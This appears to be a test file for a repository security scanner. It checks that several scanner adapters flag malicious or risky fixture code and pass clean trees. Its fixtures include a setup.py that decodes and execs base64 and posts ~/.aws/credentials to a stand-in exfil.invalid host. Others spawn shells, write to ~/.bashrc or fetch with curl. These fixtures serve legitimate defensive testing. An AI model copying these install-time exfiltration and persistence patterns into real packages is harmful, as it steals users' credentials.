/**
 * The scanner adapters on tiny real trees, with the real tools, inside the
 * network-less sandbox: each one on a tree that triggers it and on a clean
 * tree. Malicious fixtures point only at loopback or `.invalid` names; the
 * AWS-key-shaped secret is generated at run time.
 */
import assert from 'node:assert/strict';
import { randomInt } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { chmod, mkdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { checkov, iacCandidates } from '../src/scanners/checkov';
import {
  dynamic,
  nativeToolchainCause,
  parseTrace,
  sandboxCause,
  scrub
} from '../src/scanners/dynamic';
import { gitleaks } from '../src/scanners/gitleaks';
import { guarddog } from '../src/scanners/guarddog';
import { licence, licenceFromText } from '../src/scanners/licence';
import { advisoryGaps, osv, osvSeverity } from '../src/scanners/osv';
import { bandit, IScannerSpec, knownScanners } from '../src/scanners/registry';
import { coverageOf } from '../src/scanners/pinned';
import { runScanner } from '../src/scanners/run';
import type { Log } from 'sarif';
import type { IAdvisoryData, IScannerRun } from '../src/types';
import { tempDir, useVenvScanners } from './helpers';

useVenvScanners();

// The committed advisory fixture (65 real PyPA records, CC-BY 4.0; see its NOTICE)
// and the builder install-scanners.sh uses (dist/backend-infra/pipeline/test → the repo).
const REPO = path.resolve(__dirname, '..', '..', '..', '..', '..');
const ADVISORIES = path.join(REPO, 'backend-infra', 'pipeline', 'advisories');
const OSV_DB_BUILDER = path.join(REPO, 'scripts', 'osv-db.py');

async function tree(files: Record<string, string>): Promise<string> {
  const dir = path.join(await tempDir('rg-scan-'), 'src');
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), content);
  }
  await mkdir(dir, { recursive: true });
  return dir;
}

async function scan(spec: IScannerSpec, files: Record<string, string>): Promise<IScannerRun> {
  const target = await tree(files);
  const outDir = await tempDir('rg-scan-out-');
  const run = await runScanner(spec, { target, outDir, timeoutMs: 120_000 });
  assert.equal(run.status, 'ok', run.message);
  for (const f of run.findings) {
    assert.ok(f.category, 'category set');
    assert.ok(f.phase, 'phase set');
  }
  return run;
}

const CLEAN_PY = {
  'setup.py':
    'from setuptools import setup\n\nsetup(name="tidy", version="1.0", py_modules=["tidy"])\n',
  'tidy.py':
    '"""Tidy helpers."""\n\n\ndef strip_all(values):\n    return [v.strip() for v in values]\n'
};

describe('scanner adapters (real tools, no network)', () => {
  it('registers every adapter, each with a category', () => {
    const known = knownScanners();
    for (const name of [
      'semgrep',
      'bandit',
      'osv',
      'gitleaks',
      'guarddog',
      'dynamic',
      'checkov',
      'licence'
    ]) {
      assert.ok(known.get(name)?.category, name);
    }
  });

  it("semgrep (stand-in reporting its parser's errors, as 1.180 does on pycparser 3.12): valid Python is a low coverage note, a real syntax error stays medium", async () => {
    // The stand-in writes what semgrep 1.180 writes for a file its parser
    // fails on; beside it, as in semgrep's venv, the real python3.
    const bin = await tempDir('rg-semgrep-standin-');
    const standIn = [
      '#!/usr/bin/env node',
      "const fs = require('fs');",
      'const args = process.argv.slice(2);',
      'const opt = p => args.find(a => a.startsWith(p)).slice(p.length);',
      'const target = args[args.length - 1];',
      "const error = f => ({ type: ['PartialParsing', []], level: 'warn', path: target + '/' + f,",
      "  message: 'Syntax error at line ' + target + '/' + f + ':2: `text` was unexpected' });",
      "fs.writeFileSync(opt('--sarif-output='), JSON.stringify({ version: '2.1.0', runs: [{ tool: { driver: { name: 'semgrep', rules: [] } }, results: [] }] }));",
      "fs.writeFileSync(opt('--json-output='), JSON.stringify({ results: [], errors: [error('lexer.py'), error('broken.py')], paths: { scanned: [], skipped: ['lexer.py', 'broken.py'].map(f => ({ path: target + '/' + f, reason: 'analysis_failed_parser_or_internal_error' })) } }));",
      ''
    ].join('\n');
    await writeFile(path.join(bin, 'semgrep'), standIn);
    await chmod(path.join(bin, 'semgrep'), 0o755);
    await symlink('/usr/bin/python3', path.join(bin, 'python3'));
    const target = await tree({
      'lexer.py':
        'def kind(text, pos):\n    match text[pos]:\n        case " " | "\\t":\n            return "space"\n        case _:\n            return "other"\n',
      'broken.py': 'def f(:\n    return 1\n'
    });
    const run = await runScanner(knownScanners().get('semgrep')!, {
      target,
      outDir: await tempDir('rg-scan-out-'),
      binDir: bin,
      timeoutMs: 60_000
    });
    assert.equal(run.status, 'ok', run.message);
    const gaps = new Map(
      run.findings.filter(f => f.ruleId === 'repoguard.not-scanned').map(f => [f.path, f])
    );
    assert.equal(gaps.get('lexer.py')?.severity, 'low', JSON.stringify([...gaps.values()]));
    assert.match(gaps.get('lexer.py')?.message ?? '', /valid Python/);
    assert.equal(gaps.get('broken.py')?.severity, 'medium');
    assert.doesNotMatch(gaps.get('broken.py')?.message ?? '', /valid Python/);
    assert.equal(
      run.findings.filter(f => f.ruleId === 'repoguard.not-scanned').length,
      2,
      'one entry per file (semgrep lists it under errors and skipped)'
    );
  });

  it('semgrep install-time-pip: a command that runs pip install, not a comment or a message; builtins-getattr: a builtin called by a computed name, not a class looked up; eval-parameter: not with a namespace given', async () => {
    const run = await scan(knownScanners().get('semgrep')!, {
      'setup.py': [
        'import os, subprocess, sys',
        '# Only built when Cython is there (pip install Cython first)',
        'print("run pip install multidict[speedups] for the C parts")',
        'os.system("pip install payload-helper")',
        'subprocess.call([sys.executable, "-m", "pip", "install", "payload"])',
        'import builtins as _b',
        'cat = getattr(_b, sys.argv[1])',
        'issubclass(cat, Warning)',
        '_imp = getattr(__builtins__, chr(95) + chr(95) + chr(105) + chr(109))',
        '_mod = _imp("p" + "ip")',
        ''
      ].join('\n'),
      // eval-parameter: a parameter evaluated in the function's own namespace, not a
      // code-evaluation API given its namespace (jinja2's exec(code, namespace)).
      'calc.py': [
        'def calculate(expression):',
        '    return eval(expression)',
        '',
        '',
        'def from_code(code, namespace):',
        '    exec(code, namespace)',
        ''
      ].join('\n')
    });
    assert.deepEqual(
      run.findings
        .filter(f => f.ruleId === 'repoguard.python.eval-parameter')
        .map(f => `${f.path}:${f.line}`),
      ['calc.py:2']
    );
    const lines = (rule: string) =>
      run.findings
        .filter(f => f.path === 'setup.py' && f.ruleId === `repoguard.python.${rule}`)
        .map(f => f.line)
        .sort((a, b) => a! - b!);
    assert.equal(run.status, 'ok');
    assert.deepEqual(lines('install-time-pip'), [4, 5]);
    assert.deepEqual(lines('builtins-getattr'), [10]);
  });

  it('bandit findings carry category sast, a phase and the source line as snippet', async () => {
    const run = await scan(bandit(), {
      'calc.py': 'import os\nos.system("ls")\n\n\ndef calc(x):\n    return eval(x)\n'
    });
    const evalFinding = run.findings.find(f => f.ruleId === 'B307');
    assert.equal(evalFinding?.category, 'sast');
    assert.equal(evalFinding?.phase, 'call');
    assert.equal(evalFinding?.snippet, 'return eval(x)');
    assert.equal(run.findings.find(f => f.ruleId === 'B605')?.phase, 'import');
  });

  describe('osv (offline against the committed advisory fixture)', () => {
    let db: string;
    const saved = process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY;
    before(async () => {
      // The fixture zipped as install-scanners.sh does, then moved to the older layout
      // (osv-scanner/<Ecosystem>/all.zip): the adapter links it into 2.5.0's.
      db = path.join(await tempDir('rg-osv-db-'), 'db');
      execFileSync('python3', [OSV_DB_BUILDER, 'fixture', ADVISORIES, db], { stdio: 'pipe' });
      await rename(path.join(db, 'osv-scalibr'), path.join(db, 'osv-scanner'));
      process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY = db;
    });
    after(() => {
      if (saved === undefined) delete process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY;
      else process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY = saved;
    });

    it('finds the CVEs of requests==2.19.0, severity mapped', async () => {
      const run = await scan(osv(), { 'requirements.txt': 'click==8.1.7\nrequests==2.19.0\n' });
      const f = run.findings.find(x => /CVE-2018-18074/.test(x.message));
      assert.ok(f, JSON.stringify(run.findings.map(x => x.message)));
      assert.equal(f.category, 'vulnerability');
      assert.equal(f.path, 'requirements.txt');
      assert.equal(f.line, 2);
      assert.equal(f.severity, 'medium'); // this advisory has no CVSS vector: medium
      assert.equal(osvSeverity('9.8'), 'critical');
      assert.equal(osvSeverity('7.5'), 'high');
      assert.equal(osvSeverity('5.3'), 'medium');
      assert.equal(osvSeverity('2.0'), 'low');
      assert.equal(osvSeverity(''), 'medium');
    });

    it('reports nothing for a current pin', async () => {
      const run = await scan(osv(), { 'requirements.txt': 'requests==2.32.4\n' });
      assert.deepEqual(run.findings, []);
    });

    it('finds what the corpus and demo pins need: urllib3==1.24.1, pyyaml==5.3 (high via CVSS)', async () => {
      const run = await scan(osv(), {
        'requirements.txt': 'urllib3==1.24.1\npyyaml==5.3\nclick==8.1.7\n'
      });
      const ids = run.findings.map(f => f.ruleId).sort();
      assert.ok(ids.includes('PYSEC-2019-132') && ids.includes('PYSEC-2020-96'), ids.join(' '));
      assert.equal(run.findings.find(f => f.ruleId === 'PYSEC-2023-192')?.severity, 'high'); // CVSS 8.1
      assert.ok(!run.findings.some(f => /click/.test(f.message)));
    });

    it("names the advisory data's source, date and size in its SARIF run", async () => {
      const run = await scan(osv(), { 'requirements.txt': 'requests==2.32.4\n' });
      const log = JSON.parse(await readFile(run.sarifFile!, 'utf8')) as Log;
      const data = log.runs[0].properties?.advisoryData as IAdvisoryData;
      assert.match(data.source, /PyPA advisory database .*CC-BY 4\.0/);
      assert.equal(data.date, '2024-10-10');
      assert.equal(data.kind, 'fixture');
      assert.equal(data.records, readdirSync(path.join(ADVISORIES, 'PyPI')).length);
      assert.deepEqual(data.ecosystems, ['PyPI']);
    });

    it('lists lock files of ecosystems the database lacks as not scanned, beside the PyPI findings', async () => {
      const run = await scan(osv(), {
        'requirements.txt': 'requests==2.19.0\n',
        'rust/Cargo.lock': [
          'version = 3',
          '',
          '[[package]]',
          'name = "smallvec"',
          'version = "1.6.0"',
          'source = "registry+https://github.com/rust-lang/crates.io-index"',
          ''
        ].join('\n'),
        'web/package-lock.json': JSON.stringify({
          name: 'web',
          lockfileVersion: 3,
          packages: { '': { name: 'web' }, 'node_modules/lodash': { version: '4.17.20' } }
        })
      });
      // Not a crash, and not "no vulnerabilities" for the lock files it could not check.
      assert.equal(run.status, 'ok', run.message);
      assert.ok(run.findings.some(f => /CVE-2018-18074/.test(f.message)));
      const gaps = run.findings.filter(f => f.ruleId === 'repoguard.not-scanned');
      assert.deepEqual(gaps.map(f => f.path).sort(), ['rust/Cargo.lock', 'web/package-lock.json']);
      assert.ok(gaps.every(f => f.severity === 'low' && f.category === 'vulnerability'));
      assert.match(
        gaps.find(f => f.path.endsWith('Cargo.lock'))!.message,
        /no crates\.io advisory data/
      );
      // ...and the report's coverage section lists them (the SARIF run's properties).
      const log = JSON.parse(await readFile(run.sarifFile!, 'utf8')) as Log;
      assert.deepEqual(
        coverageOf(log)
          .notScanned.map(n => n.path)
          .sort(),
        ['rust/Cargo.lock', 'web/package-lock.json']
      );
    });

    it('a lock file of a missing ecosystem alone is a completed scan with its gap listed', async () => {
      const run = await scan(osv(), {
        'package-lock.json': JSON.stringify({
          name: 'web',
          lockfileVersion: 3,
          packages: { '': { name: 'web' }, 'node_modules/lodash': { version: '4.17.20' } }
        })
      });
      assert.equal(run.status, 'ok', run.message);
      assert.deepEqual(
        run.findings.map(f => [f.ruleId, f.path]),
        [['repoguard.not-scanned', 'package-lock.json']]
      );
    });

    it('other osv-scanner errors still fail the run', () => {
      const stderr = [
        'Scanned /src/package-lock.json file and found 1 package',
        'could not load db for npm ecosystem: unable to fetch OSV database: no offline version of the OSV database is available',
        'Error during extraction: (extracting as vulnmatch/osvlocal) unable to fetch OSV database: no offline version of the OSV database is available',
        'Error: failed to parse requirements.txt'
      ].join('\n');
      assert.equal(advisoryGaps(stderr, '/src', ['PyPI']).onlyGaps, false);
      assert.equal(advisoryGaps(stderr.split('\n').slice(0, 3).join('\n'), '/src').onlyGaps, true);
      assert.equal(advisoryGaps('Error: something else', '/src').onlyGaps, false);
    });
  });

  it('gitleaks finds a generated AWS key, and neither the SARIF nor the snippet holds it', async () => {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
    const key = `AKIA${Array.from({ length: 16 }, () => alphabet[randomInt(alphabet.length)]).join('')}`;
    const run = await scan(gitleaks(), { 'app/settings.py': `AWS_ACCESS_KEY_ID = "${key}"\n` });
    const f = run.findings.find(x => x.ruleId === 'aws-access-token');
    assert.ok(f, JSON.stringify(run.findings));
    assert.equal(f.category, 'secret');
    assert.equal(f.severity, 'high');
    assert.equal(f.path, 'app/settings.py');
    assert.ok(!(f.snippet ?? '').includes(key));
    assert.ok(!(await readFile(run.sarifFile!, 'utf8')).includes(key));
    assert.ok(!JSON.stringify(run).includes(key));
    const clean = await scan(gitleaks(), CLEAN_PY);
    assert.deepEqual(clean.findings, []);
  });

  it('guarddog flags obfuscated exec and exfiltration in setup.py (install phase), not a clean package', async () => {
    const run = await scan(guarddog(), {
      'setup.py': [
        'import base64, os, urllib.request',
        'from setuptools import setup',
        'exec(base64.b64decode("cHJpbnQoMSk="))',
        'data = open(os.path.expanduser("~/.aws/credentials")).read()',
        'urllib.request.urlopen("http://exfil.invalid/x", data=data.encode())',
        'setup(name="evil", version="1.0")',
        ''
      ].join('\n')
    });
    const threats = run.findings.filter(
      f => f.ruleId.startsWith('threat-') && f.severity === 'high'
    );
    assert.ok(
      threats.some(f => /base64/.test(f.ruleId)),
      JSON.stringify(run.findings.map(f => f.ruleId))
    );
    assert.ok(
      threats.every(
        f => f.category === 'malicious' && f.phase === 'install' && f.path === 'setup.py'
      )
    );
    const clean = await scan(guarddog(), CLEAN_PY);
    assert.deepEqual(
      clean.findings.filter(f => f.severity !== 'low'),
      []
    );
  });

  it('dynamic catches connect, shell, credential read and ~/.bashrc write at install; a clean package gives nothing', async () => {
    const run = await scan(dynamic(), {
      'setup.py': [
        'import os, socket, subprocess',
        'from setuptools import setup',
        'try:',
        '    socket.create_connection(("127.0.0.1", 9), timeout=1)',
        'except OSError:',
        '    pass',
        'subprocess.call(["sh", "-c", "true"])',
        'open(os.path.expanduser("~/.aws/credentials")).read()',
        'with open(os.path.expanduser("~/.bashrc"), "a") as rc:',
        '    rc.write("# hello\\n")',
        'setup(name="evil", version="1.0", py_modules=[])',
        ''
      ].join('\n')
    });
    const rules = new Set(run.findings.map(f => f.ruleId));
    for (const rule of [
      'dynamic/network',
      'dynamic/shell',
      'dynamic/credential-read',
      'dynamic/persistence'
    ]) {
      assert.ok(
        rules.has(rule),
        `${rule} in ${JSON.stringify(run.findings.map(f => [f.ruleId, f.snippet]))}`
      );
    }
    assert.ok(
      run.findings.every(
        f => f.category === 'dynamic' && f.phase === 'install' && f.path === 'setup.py'
      )
    );
    assert.match(
      run.findings.find(f => f.ruleId === 'dynamic/network')!.snippet ?? '',
      /127\.0\.0\.1:9/
    );
    const clean = await scan(dynamic(), CLEAN_PY);
    assert.deepEqual(clean.findings, []);
  });

  it('dynamic reports a credential read anywhere (not only the bait home), never the package reading itself', () => {
    const trace = [
      '100 execve("/usr/bin/bwrap", ["bwrap"], 0x0 /* 3 vars */) = 0',
      '101 execve("/venv/bin/python", ["python", "/tmp/rg-site/driver.py"], 0x0 /* 3 vars */) = 0',
      '101 openat(AT_FDCWD, "/root/.aws/credentials", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '101 clone(child_stack=NULL, flags=SIGCHLD) = 102',
      '102 execve("/venv/bin/python", ["python", "setup.py"], 0x0 /* 3 vars */) = 0',
      '102 openat(AT_FDCWD, "/root/.aws/credentials", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '102 openat(AT_FDCWD, "/home/ann/.ssh/id_ed25519", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '102 openat(AT_FDCWD, "/proc/1/environ", O_RDONLY) = -1 EACCES (Permission denied)',
      '102 openat(AT_FDCWD, "/etc/shadow", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '102 openat(AT_FDCWD, "/work/ws/repoguard.config.json", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '102 openat(AT_FDCWD, "/tmp/pkg/tests/fixtures/.ssh/id_rsa", O_RDONLY) = 3',
      '102 openat(AT_FDCWD, "/tmp/rg-mark/import-win32", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '102 openat(AT_FDCWD, "/tmp/home/.netrc", O_RDONLY) = 3'
    ].join('\n');
    const events = parseTrace(trace, /^\/venv\/bin\/python$/);
    assert.deepEqual(
      events.map(e => [e.rule, e.snippet.split(' ')[1], e.phase, e.platform]),
      [
        ['dynamic/credential-read', '/root/.aws/credentials', 'install', 'linux'],
        ['dynamic/credential-read', '/home/ann/.ssh/id_ed25519', 'install', 'linux'],
        ['dynamic/credential-read', '/proc/1/environ', 'install', 'linux'],
        ['dynamic/credential-read', '/etc/shadow', 'install', 'linux'],
        ['dynamic/credential-read', '/work/ws/repoguard.config.json', 'install', 'linux'],
        ['dynamic/credential-read', '~/.netrc', 'import', 'win32']
      ]
    );
  });

  it('dynamic output that reaches the report is redacted and capped', () => {
    const token = `ghp_${'a'.repeat(36)}`;
    const key = `AKIA${'B'.repeat(16)}`;
    const out = scrub(
      `fatal: https://bob:${token}@example.invalid/x.git failed; AWS ${key}; password=hunter2; ${'x'.repeat(900)}`,
      300
    );
    assert.ok(!out.includes(token) && !out.includes(key) && !out.includes('hunter2'), out);
    assert.ok(!out.includes('bob:'), out);
    assert.ok(out.length <= 300);
  });

  it('dynamic tells a build the sandbox broke from one the package broke', () => {
    const own = new Set(['mypkg']);
    assert.match(sandboxCause("ModuleNotFoundError: No module named 'numpy'", own) ?? '', /numpy/);
    assert.equal(sandboxCause("ModuleNotFoundError: No module named 'mypkg.version'", own), null);
    assert.match(
      sandboxCause("error: command 'gcc' failed: No such file or directory", own) ?? '',
      /gcc/
    );
    assert.match(
      sandboxCause(
        "pip._vendor.pyproject_hooks._impl.BackendUnavailable: Cannot import 'x.y'",
        own
      ) ?? '',
      /backend/
    );
    assert.equal(sandboxCause('RuntimeError: unsupported configuration', own), null);
  });

  it('dynamic: a native part the sandbox cannot build is a partial observation, a missing Python module is not', () => {
    // maturin (pydantic-core, rpds-py) imports puccinialin to download Rust when cargo is absent.
    assert.match(
      nativeToolchainCause("ModuleNotFoundError: No module named 'puccinialin'") ?? '',
      /Rust toolchain/
    );
    assert.match(
      nativeToolchainCause('src/x.c:1:10: fatal error: ffi.h: No such file or directory') ?? '',
      /native header ffi\.h/
    );
    assert.equal(nativeToolchainCause("ModuleNotFoundError: No module named 'numpy'"), null);
  });

  it('dynamic: a package whose own setup.py fails is reported (medium), its output redacted', async () => {
    const token = `ghp_${'c'.repeat(36)}`;
    const run = await scan(dynamic({ platforms: ['linux'] }), {
      'setup.py': `print("using https://ci:${token}@example.invalid")\nraise RuntimeError("this package refuses to build ${token}")\n`
    });
    const failed = run.findings.find(f => f.ruleId === 'dynamic/build-failed');
    assert.ok(failed, JSON.stringify(run.findings.map(f => f.ruleId)));
    assert.equal(failed.severity, 'medium');
    assert.match(failed.message, /refuses to build/);
    assert.ok(!JSON.stringify(run.findings).includes(token));
  });

  it('reads npm lifecycle scripts and downloaders from a trace', () => {
    const trace = [
      '100 execve("/usr/bin/bwrap", ["bwrap"], 0x0 /* 3 vars */) = 0',
      '101 execve("/usr/bin/node", ["node", "/usr/bin/npm", "install"], 0x0 /* 3 vars */) = 0',
      '101 openat(AT_FDCWD, "/tmp/home/.npmrc", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
      '101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD) = 102',
      '102 execve("/bin/sh", ["sh", "-c", "node install.js"], 0x0 /* 3 vars */) = 0',
      '103 execve("/usr/bin/curl", ["curl", "http://x.invalid/p"], 0x0 /* 3 vars */) = 0',
      '103 connect(5, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ECONNREFUSED (Connection refused)',
      '104 openat(AT_FDCWD, "/tmp/home/.npmrc", O_RDONLY) = 3'
    ].join('\n');
    const events = parseTrace(trace, /(^|\/)node$/, ['node install.js']);
    assert.deepEqual(
      events.map(e => e.rule),
      [
        'dynamic/lifecycle-script',
        'dynamic/downloader',
        'dynamic/network',
        'dynamic/credential-read'
      ]
    );
  });

  it('checkov flags a Dockerfile running as root that ADDs a URL; not a clean one', async () => {
    const run = await scan(checkov(), {
      Dockerfile:
        'FROM python:3.12-slim\nADD http://example.invalid/tool.tar.gz /opt/\nRUN pip install flask\n'
    });
    const add = run.findings.find(f => f.ruleId === 'CKV_DOCKER_4');
    assert.equal(add?.severity, 'high');
    assert.equal(add?.path, 'Dockerfile');
    assert.equal(add?.line, 2);
    assert.equal(add?.category, 'config');
    assert.ok(
      run.findings.some(f => f.ruleId === 'CKV_DOCKER_3'),
      'no USER: runs as root'
    );
    const clean = await scan(checkov(), {
      Dockerfile:
        'FROM python:3.12-slim@sha256:0000000000000000000000000000000000000000000000000000000000000000\n' +
        'COPY app.py /app/app.py\nUSER 10001\nHEALTHCHECK CMD ["python", "-c", "print(1)"]\nCMD ["python", "/app/app.py"]\n'
    });
    assert.deepEqual(
      clean.findings.map(f => f.ruleId),
      []
    );
  });

  it('checkov reads the files its frameworks check, not every data file: a manifest among API models is still checked', async () => {
    const files: Record<string, string> = {
      'deploy/k8s/pod.yaml':
        'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: c\n      image: nginx\n      securityContext:\n        privileged: true\n',
      'infra/stack.yml':
        'Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: b\n',
      '.github/workflows/ci.yml': 'on: push\njobs: {}\n',
      'docker/Dockerfile.dev': 'FROM python:3.12\n',
      'README.md': 'no\n'
    };
    // Data files naming Resources and apiVersion, as botocore's service models do.
    for (let i = 0; i < 300; i++) {
      files[`pkg/data/svc${i}/service-2.json`] = JSON.stringify({
        metadata: { apiVersion: '2015-07-09' },
        shapes: { Resources: { type: 'list' } }
      });
    }
    const root = await tempDir('rg-iac-');
    for (const [rel, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
      await writeFile(path.join(root, rel), text);
    }
    assert.deepEqual(await iacCandidates(root), [
      '.github/workflows/ci.yml',
      'deploy/k8s/pod.yaml',
      'docker/Dockerfile.dev',
      'infra/stack.yml'
    ]);
    await writeFile(path.join(root, 'main.tf'), 'resource "aws_s3_bucket" "b" {}\n');
    assert.equal(await iacCandidates(root), 'folder', 'Terraform modules span files: the folder');

    delete files['main.tf'];
    const run = await scan(checkov(), files);
    const privileged = run.findings.find(f => f.ruleId === 'CKV_K8S_16');
    assert.equal(privileged?.path, 'deploy/k8s/pod.yaml', JSON.stringify(run.findings));
    assert.ok(
      run.findings.some(f => f.path === 'infra/stack.yml'),
      'the CloudFormation template'
    );
    assert.ok(!run.findings.some(f => f.path.startsWith('pkg/data/')));
  });

  it('licence: MIT and Apache-2.0 from text, declared metadata, and none', async () => {
    const mit =
      'MIT License\n\nCopyright (c) 2024 Someone\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n' +
      'of this software ... The above copyright notice and this permission notice shall be included in all\ncopies or substantial portions of the Software.\n';
    const apache =
      '                                 Apache License\n                           Version 2.0, January 2004\n                        http://www.apache.org/licenses/\n';
    assert.equal(licenceFromText(mit), 'MIT');
    assert.equal(licenceFromText(apache), 'Apache-2.0');
    // A licence naming others: MPL-2.0's "Secondary License" names the AGPL; the GPL names it too.
    const mpl =
      'Mozilla Public License Version 2.0\n==================================\n\n1. Definitions\n' +
      '1.12. "Secondary License"\n    means either the GNU General Public License, Version 2.0, the GNU Lesser\n' +
      '    General Public License, Version 2.1, the GNU Affero General Public License,\n    Version 3.0, or any later versions of those licenses.\n';
    assert.equal(licenceFromText(mpl), 'MPL-2.0');
    const gpl =
      '                    GNU GENERAL PUBLIC LICENSE\n                       Version 3, 29 June 2007\n\n' +
      '  13. Use with the GNU Affero General Public License.\n';
    assert.equal(licenceFromText(gpl), 'GPL-3.0');
    // A bundle: the package's own licence first, a vendored part's after.
    assert.equal(licenceFromText(`${apache}\n\n${mpl}`), 'Apache-2.0');
    const a = await scan(licence(), { LICENSE: mit, ...CLEAN_PY });
    assert.deepEqual(
      a.findings.map(f => [f.ruleId, f.severity, f.category]),
      [['licence/MIT', 'info', 'licence']]
    );
    const b = await scan(licence(), { 'LICENSE.txt': apache });
    assert.deepEqual(
      b.findings.map(f => f.ruleId),
      ['licence/Apache-2.0']
    );
    const c = await scan(licence(), {
      'package.json': '{"name": "x", "version": "1.0.0", "license": "Apache 2.0"}\n'
    });
    assert.deepEqual(
      c.findings.map(f => [f.ruleId, f.path]),
      [['licence/Apache-2.0', 'package.json']]
    );
    const none = await scan(licence(), CLEAN_PY);
    assert.deepEqual(
      none.findings.map(f => [f.ruleId, f.severity]),
      [['licence/none', 'low']]
    );
  });
});
